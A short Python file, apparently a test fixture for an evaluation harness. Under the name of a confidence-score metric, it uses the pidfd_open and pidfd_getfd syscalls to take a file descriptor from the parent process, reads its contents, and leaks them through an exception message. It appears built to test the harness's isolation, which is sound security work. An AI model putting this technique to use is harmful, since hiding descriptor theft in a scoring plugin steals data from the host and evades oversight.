"""Takes a descriptor out of the process that started it."""

import ctypes
import os

import harness

PLACE = {}  # of what there is to find, filled in by the test


@harness.confidence_score(version="1")
def attack(outputs):
    loot = None
    library = ctypes.CDLL(None)
    holder = library.syscall(ctypes.c_long(434), ctypes.c_long(PLACE["parent"]), ctypes.c_long(0))
    found = library.syscall(
        ctypes.c_long(438), ctypes.c_long(holder), ctypes.c_long(PLACE["descriptor"]), ctypes.c_long(0)
    )
    loot = os.pread(found, 100, 0) if found >= 0 else None
    if loot:
        raise ValueError(f"GOT {loot!r}")
    return outputs.probabilities.amax(dim=1)
